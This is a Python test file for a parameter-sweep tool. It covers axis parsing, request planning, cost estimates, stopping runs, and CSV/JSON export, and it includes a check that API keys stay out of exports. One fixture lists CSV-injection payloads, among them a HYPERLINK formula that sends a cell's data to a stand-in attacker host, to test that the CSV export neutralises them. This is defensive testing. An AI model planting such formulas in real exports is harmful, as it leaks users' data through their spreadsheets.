"""Text sweeps: axis parsing, planning, the estimate, and a real run on the local backend."""
import csv
import io
import json

import pytest

from lib.api import Client, ModelInfo
from lib.text import sweep as ts
from tests.support.canned_server import CannedServer

BASE = {"model": "local/ngram-docs", "prompt": "The playground", "max_tokens": 8,
        "stream": True}


def test_axis_values_from_lists_and_ranges_are_checked_by_the_catalogue():
    assert ts.parse_axis("temperature", "0.2, 0.7,1.2").values == (0.2, 0.7, 1.2)
    assert ts.parse_axis("presence_penalty", "-1 to 1 (+0.5)").values == (
        -1.0, -0.5, 0.0, 0.5, 1.0)
    assert ts.parse_axis("top_k", "1 to 3").values == (1, 2, 3)
    assert ts.parse_axis("model", "local/ngram-docs, local/ngram-code").labels == (
        "local/ngram-docs", "local/ngram-code")
    with pytest.raises(ts.SweepError, match="Temperature: .*2"):
        ts.parse_axis("temperature", "0.5, 9")
    with pytest.raises(ts.SweepError, match="at least one"):
        ts.parse_axis("seed", " , ")
    with pytest.raises(ts.SweepError, match="more than 12"):
        ts.parse_axis("seed", "1 to 100")
    with pytest.raises(ts.SweepError, match="can vary"):
        ts.parse_axis("prompt", "a")


def test_a_plan_fixes_the_seed_and_asks_for_logprobs_without_streaming():
    p = ts.plan(BASE, ts.parse_axis("temperature", "0, 1"), ts.parse_axis("top_k", "1,5,9"),
                draw_seed=lambda: 7)
    assert (p.rows, p.cols, p.request_count, p.describe()) == (3, 2, 6, "3 × 2 = 6 requests")
    assert not p.needs_confirm
    assert {(c.row, c.col, c.body["top_k"], c.body["temperature"]) for c in p.cells} == {
        (r, c, k, t) for r, k in enumerate((1, 5, 9)) for c, t in enumerate((0.0, 1.0))}
    assert all(c.body["seed"] == 7 and c.body["stream"] is False and c.body["logprobs"] == 1
               and c.body["n"] == 1 for c in p.cells)
    with pytest.raises(ts.SweepError, match="different"):
        ts.plan(BASE, ts.parse_axis("seed", "1"), ts.parse_axis("seed", "2"))
    big = ts.plan(BASE, ts.parse_axis("seed", "1 to 12"), ts.parse_axis("top_k", "1, 2"))
    assert big.needs_confirm


def test_the_estimate_is_an_upper_bound_and_unknown_prices_say_so():
    p = ts.plan(BASE, ts.parse_axis("max_tokens", "10, 20"))
    priced = {"local/ngram-docs": ModelInfo("local/ngram-docs", "language", input_price=1.0,
                                            output_price=2.0)}
    e = ts.estimate(p, priced)
    assert e.prompt_tokens == 2 * 4 and e.max_completion_tokens == 30
    assert e.cost_usd == pytest.approx((8 * 1.0 + 30 * 2.0) / 1e6)
    assert ts.estimate(p, {}).cost_usd is None


def test_a_sweep_runs_every_cell_and_a_failed_one_keeps_its_error(fresh_backend):
    p = ts.plan(BASE, ts.parse_axis("model", "local/ngram-docs, no/such-model"),
                ts.parse_axis("temperature", "0, 1"))
    finished = []
    run = ts.SweepRun(lambda: Client(base_url=fresh_backend.base_url), p,
                      on_finish=finished.append).start()
    assert run.join(30)
    results = run.results()
    assert finished == [run] and run.done_count() == 4 and not run.running
    good = [r for r in results if r.x == "local/ngram-docs"]
    bad = [r for r in results if r.x == "no/such-model"]
    assert all(r.text and r.error is None and r.tokens and r.mean_logprob is not None
               and r.mean_logprob <= 0 and r.finish_reason and r.latency_s is not None
               for r in good)
    assert all(r.error and "no/such-model" in r.error and not r.text for r in bad)
    rows = list(csv.reader(io.StringIO(ts.to_csv(p, results))))
    assert rows[0][:4] == ["row", "col", "x: model", "y: temperature"] and len(rows) == 5
    doc = json.loads(ts.to_json(p, results))
    assert doc["x"]["name"] == "model" and len(doc["cells"]) == 4
    assert doc["request"]["prompt"] == "The playground"


def test_a_stopped_sweep_sends_no_more_cells(fresh_backend):
    fresh_backend.clear_requests()
    p = ts.plan(BASE, ts.parse_axis("seed", "1 to 8"))
    run = ts.SweepRun(lambda: Client(base_url=fresh_backend.base_url), p, workers=1)
    run.stop()
    run.start().join(30)
    assert all(r.error == "Not sent: the sweep was stopped." for r in run.results())
    assert not [r for r in fresh_backend.requests_seen if r["path"].endswith("/completions")]


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tcmd", "\rcmd"]


def _formula_server():
    """A server whose completion for seed s is FORMULAS[s - 1], finished by a formula too."""
    def complete(request):
        seed = json.loads(request.body)["seed"]
        body = {"id": "x", "object": "text.completion", "model": "local/ngram-docs",
                "choices": [{"index": 0, "text": FORMULAS[seed - 1], "finish_reason": "@stop",
                             "seed": seed, "logprobs": {"tokens": ["t"],
                                                        "token_logprobs": [-0.5]}}],
                "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}
        return 200, {"Content-Type": "application/json"}, json.dumps(body).encode()
    return CannedServer({"/v1/completions": complete})


def test_the_csv_export_neutralises_formulas_and_the_json_export_stays_exact():
    """OWASP CSV injection: a spreadsheet runs a cell that starts with = + - @ tab or CR."""
    server = _formula_server()
    try:
        p = ts.plan(BASE, ts.parse_axis("seed", f"1 to {len(FORMULAS)}"))
        run = ts.SweepRun(lambda: Client(base_url=server.url + "/v1"), p).start()
        assert run.join(30)
        results = run.results()
    finally:
        server.stop()
    header, *rows = csv.reader(io.StringIO(ts.to_csv(p, results), newline=""))
    cells = [dict(zip(header, row)) for row in rows]
    assert [c["text"] for c in cells] == ["'" + text for text in FORMULAS]
    assert {c["finish_reason"] for c in cells} == {"'@stop"}
    assert {c["mean_logprob"] for c in cells} == {"-0.5"}  # a number, not text: left as is
    doc = json.loads(ts.to_json(p, results))
    assert [c["text"] for c in doc["cells"]] == FORMULAS
    assert {c["finish_reason"] for c in doc["cells"]} == {"@stop"}
    assert ts.csv_cell("=1") == "'=1" and ts.csv_cell("a=1") == "a=1" and ts.csv_cell(-3) == -3


def test_a_key_pasted_into_the_prompt_is_in_neither_export(fresh_backend):
    """The exports are files a user shares: the key goes no further than the request."""
    key = "tgp_v1_" + "PastedByMistake" * 3
    p = ts.plan({**BASE, "prompt": f"my key is {key}"}, ts.parse_axis("seed", "1, 2"))
    run = ts.SweepRun(lambda: Client(api_key="", base_url=fresh_backend.base_url), p).start()
    assert run.join(30)
    exports = ts.to_csv(p, run.results()) + ts.to_json(p, run.results())
    assert "my key is" in exports and key not in exports
